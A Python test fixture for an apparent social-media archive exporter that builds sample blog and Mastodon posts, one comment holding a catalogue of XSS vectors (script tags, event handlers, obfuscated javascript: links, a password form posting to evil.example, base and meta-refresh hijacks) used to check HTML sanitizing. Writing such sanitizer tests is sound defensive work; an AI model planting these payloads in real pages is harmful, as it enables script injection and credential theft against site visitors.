"""A small archive with everything an export must handle, shared by the export tests.

A blog post with comments nested three deep (one of them ours), an edited post, a post
gone upstream, a Mastodon post with a reply, a Mastodon copy of the blog post with its own
reply, our reply to someone else's toot, our boost of someone else's toot, tags with
umlauts and spaces, one image
downloaded and one not, and third-party HTML full of XSS vectors.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from ownfeed.archive import Archive, mark_gone, store_posts
from ownfeed.archive.runs import ensure_source
from ownfeed.archive.store import media_id
from ownfeed.config import ExportConfig
from ownfeed.models import Author, Gone, Media, Post, SourceResult, post_id

BASE_URL = "https://novosyx.example/archive/"
BLOG = "https://blog.example"
MASTO = "https://mastodon.example"
T0 = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)

US_BLOG = Author("web", name="Novosyx", url=BLOG + "/")
US_MASTO = Author("mastodon", handle="@novosyx@mastodon.example", name="Novosyx")
READER = Author("web", name="Mallory <script>alert(1)</script>", url="javascript:alert(1)")
FAN = Author("mastodon", handle="@fan@other.example", name="Fan")

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
IMAGE_URL = BLOG + "/img/team.png"
MISSING_IMAGE_URL = "https://cdn.tracker.example/pixel.png"
ATTACHMENT_URL = MASTO + "/media/attachment.jpg"

XSS = """
<p>Danke! <script>alert('script')</script></p>
<img src="https://evil.example/x.png" onerror="alert('onerror')" alt="evil">
<a href="javascript:alert('js')">js link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="vbscript:msgbox('vb')">vb link</a>
<a href="jav&#x09;ascript:alert('tab')">tab link</a>
<a href="&#106;avascript:alert('entity')">entity link</a>
<svg><script>alert('svg')</script><circle r="5"/></svg>
<style>body { background: url(https://evil.example/bg.png) }</style>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" alt="two sizes">
<p style="background:url(https://evil.example/s.png)" onclick="alert('click')">styled</p>
<a id="search-results" name="ownfeedSearch" href="https://example.org/ok">clobber</a>
<object data="https://evil.example/o.swf"></object>
<video src="https://evil.example/v.mp4"></video>
<link rel="stylesheet" href="https://evil.example/s.css">
"""


@dataclass
class Sample:
    archive: Archive
    media_dir: Path
    root: Path

    def config(self, output: Path | None = None, **changes: object) -> ExportConfig:
        values: dict[str, object] = {
            "output": output or self.root / "site",
            "title": "Novosyx — everything we published",
            "base_url": BASE_URL,
            "per_page": 3,
            "feed_items": 50,
        }
        values.update(changes)
        return ExportConfig(**values)  # type: ignore[arg-type]


def pid(platform: str, native: str) -> str:
    return post_id(platform, native)


def _blog_posts() -> list[Post]:
    p1 = BLOG + "/2024/vertrauen"
    post = Post(
        platform="web",
        native_id=p1,
        url=p1,
        title="Vertrauen ist gut",
        content_html=(
            "<p>Über Vertrauen und Produkte.</p>"
            f'<p><img src="/img/team.png" alt="Das Team"></p>'
            f'<p><img src="{MISSING_IMAGE_URL}" alt="Tracker"></p>'
            '<p><a href="/about">about us</a> <a href="#fn1">1</a></p>'
            '<p id="fn1">Fußnote</p>'
        ),
        author=US_BLOG,
        published_at=T0,
        tags=("Über uns", "Product News", "product-news"),
        media=(Media(IMAGE_URL, alt="Das Team"), Media(MISSING_IMAGE_URL, alt="Tracker")),
    )

    def comment(n: int, parent: str | None, own: bool, html: str, minutes: int) -> Post:
        return Post(
            platform="web",
            native_id=f"{p1}#comment-{n}",
            kind="reply",
            is_own=own,
            url=f"{p1}#comment-{n}",
            content_html=html,
            author=US_BLOG if own else READER,
            published_at=T0 + timedelta(minutes=minutes),
            in_reply_to=parent,
            thread_root=p1,
        )

    comments = [
        comment(1, p1, False, XSS, 10),
        comment(2, f"{p1}#comment-1", True, "<p>Gern geschehen, Mallory.</p>", 20),
        comment(3, f"{p1}#comment-2", False, "<p>Third level reply.</p>", 30),
        comment(4, None, False, "<p>Comment from an RSS feed without parent.</p>", 40),
    ]
    edited = Post(
        platform="web",
        native_id=BLOG + "/2024/edited",
        url=BLOG + "/2024/edited",
        title="Our new pricing",
        content_html="<p>Prices go up by 5 %.</p>",
        author=US_BLOG,
        published_at=T0 - timedelta(days=40),
        tags=("Pricing",),
    )
    gone = Post(
        platform="web",
        native_id=BLOG + "/2024/gone",
        url=BLOG + "/2024/gone",
        title="A post the platform removed",
        content_html="<p>Still here in the archive.</p>",
        author=US_BLOG,
        published_at=T0 - timedelta(days=70),
    )
    return [post, *comments, edited, gone]


def _mastodon_posts() -> list[Post]:
    toot = MASTO + "/@novosyx/1"
    copy = MASTO + "/@novosyx/2"
    other = "https://other.example/@someone/9"
    return [
        Post(
            platform="mastodon",
            native_id=toot,
            url=toot,
            content_html="<p>Hallo Fediverse! Wir sind jetzt hier.</p>",
            content_text="Hallo Fediverse! Wir sind jetzt hier.",
            author=US_MASTO,
            published_at=T0 + timedelta(days=1),
            tags=("Über uns",),
            media=(Media(ATTACHMENT_URL, alt="Our office"),),
        ),
        Post(
            platform="mastodon",
            native_id=toot + "/reply",
            kind="reply",
            is_own=False,
            url="https://other.example/@fan/5",
            content_html='<p>Welcome! <a href="https://other.example/tags/x">#x</a></p>',
            author=FAN,
            published_at=T0 + timedelta(days=1, hours=1),
            in_reply_to=toot,
            thread_root=toot,
        ),
        Post(
            platform="mastodon",
            native_id=copy,
            url=copy,
            content_html=f'<p>New on the blog: <a href="{BLOG}/2024/vertrauen">Vertrauen</a></p>',
            author=US_MASTO,
            published_at=T0 + timedelta(hours=2),
        ),
        Post(
            platform="mastodon",
            native_id=copy + "/reply",
            kind="reply",
            is_own=False,
            url="https://other.example/@fan/6",
            content_html="<p>Great article about trust!</p>",
            author=FAN,
            published_at=T0 + timedelta(hours=3),
            in_reply_to=copy,
            thread_root=copy,
        ),
        Post(
            platform="mastodon",
            native_id=other,
            kind="post",
            is_own=False,
            url=other,
            content_html="<p>Does anyone know a good archive tool?</p>",
            author=Author("mastodon", handle="@someone@other.example"),
            published_at=T0 + timedelta(days=2),
        ),
        Post(
            platform="mastodon",
            native_id="https://other.example/@fan/8",
            is_own=False,
            url="https://other.example/@fan/8",
            content_html="<p>We just shipped version 2!</p>",
            author=FAN,
            published_at=T0 + timedelta(days=2, hours=2),
        ),
        Post(
            platform="mastodon",
            native_id=MASTO + "/@novosyx/4",
            kind="repost",
            url=MASTO + "/@novosyx/4",
            author=US_MASTO,
            published_at=T0 + timedelta(days=2, hours=3),
            repost_of="https://other.example/@fan/8",
        ),
        Post(
            platform="mastodon",
            native_id=MASTO + "/@novosyx/3",
            kind="reply",
            url=MASTO + "/@novosyx/3",
            content_html="<p>We use ownfeed for exactly this.</p>",
            author=US_MASTO,
            published_at=T0 + timedelta(days=2, hours=1),
            in_reply_to=other,
            thread_root=other,
        ),
    ]


def build_archive(root: Path) -> Sample:
    """Fill an archive under `root` and return it with its media folder."""
    archive = Archive(root / "archive.db")
    media_dir = root / "media"
    with archive.transaction():
        ensure_source(archive, "blog", "feed", BLOG + "/feed/")
        ensure_source(archive, "mastodon", "mastodon", "@novosyx@mastodon.example")
        archive.conn.execute("UPDATE sources SET title = 'Novosyx Blog' WHERE name = 'blog'")
        store_posts(archive, _blog_posts(), "blog", now=T0)
        store_posts(archive, _mastodon_posts(), "mastodon", now=T0)
    edited = Post(
        platform="web",
        native_id=BLOG + "/2024/edited",
        url=BLOG + "/2024/edited",
        title="Our new pricing",
        content_html="<p>Prices go up by 7 %. <em>Corrected.</em></p>",
        author=US_BLOG,
        published_at=T0 - timedelta(days=40),
    )
    with archive.transaction():
        store_posts(archive, [edited], "blog", now=T0 + timedelta(days=3))
        mark_gone(
            archive,
            SourceResult(gone=[Gone("web", BLOG + "/2024/gone", "404")]),
            now=T0 + timedelta(days=4),
        )
    digest = hashlib.sha256(PNG).hexdigest()
    local = f"{digest[:2]}/{digest}.png"
    (media_dir / digest[:2]).mkdir(parents=True)
    (media_dir / local).write_bytes(PNG)
    blog_post = pid("web", BLOG + "/2024/vertrauen")
    copy = pid("mastodon", MASTO + "/@novosyx/2")
    with archive.transaction():
        archive.conn.execute(
            "UPDATE media SET sha256 = ?, local_path = ?, size = ?, mime = 'image/png' "
            "WHERE id = ?",
            (digest, local, len(PNG), media_id(blog_post, IMAGE_URL)),
        )
        archive.conn.execute(
            "INSERT INTO post_links (post_id, linked_id, relation, how) "
            "VALUES (?, ?, 'copy', 'link')",
            (blog_post, copy),
        )
    return Sample(archive, media_dir, root)


def add_late_reply(archive: Archive, html: str = "<p>Late reply</p>") -> None:
    """A fan's reply to our first toot, archived after the sample's exports."""
    reply = Post(
        platform="mastodon",
        native_id=MASTO + "/@novosyx/1/late",
        kind="reply",
        is_own=False,
        content_html=html,
        author=FAN,
        published_at=T0 + timedelta(days=9),
        in_reply_to=MASTO + "/@novosyx/1",
        thread_root=MASTO + "/@novosyx/1",
    )
    store_posts(archive, [reply], "mastodon", now=T0 + timedelta(days=9))


def search_data(root: Path, name: str) -> Any:
    """The argument a search script file (search/<name>.js) hands to search.js."""
    text = (root / "search" / f"{name}.js").read_text(encoding="utf-8")
    assert text.startswith("ownfeedSearch.") and text.endswith(");\n")
    return json.loads(text[text.index(",") + 1 : -3])


def decode_numbers(encoded: str) -> list[int]:
    """The ascending numbers search.py's `encode` wrote as gaps."""
    numbers, last = [], 0
    for part in encoded.split(",") if encoded else []:
        last += int(part)
        numbers.append(last)
    return numbers


def search_rows(root: Path) -> set[str]:
    """Every result row the exported search index can show (link, title, day, excerpt,
    platform), as JSON: the base rows not hidden, and the delta's rows."""
    meta = search_data(root, "index")
    hidden = set(decode_numbers(meta["stale"])) | set(decode_numbers(meta["rows"]))
    rows: set[str] = set()
    for path in (root / "search").glob("[de]*.js"):
        first = int(path.stem[1:]) * meta["chunk"]
        for at, row in enumerate(search_data(root, path.stem)):
            if row is not None and (path.stem[0] == "e" or first + at not in hidden):
                rows.add(json.dumps(row))
    return rows
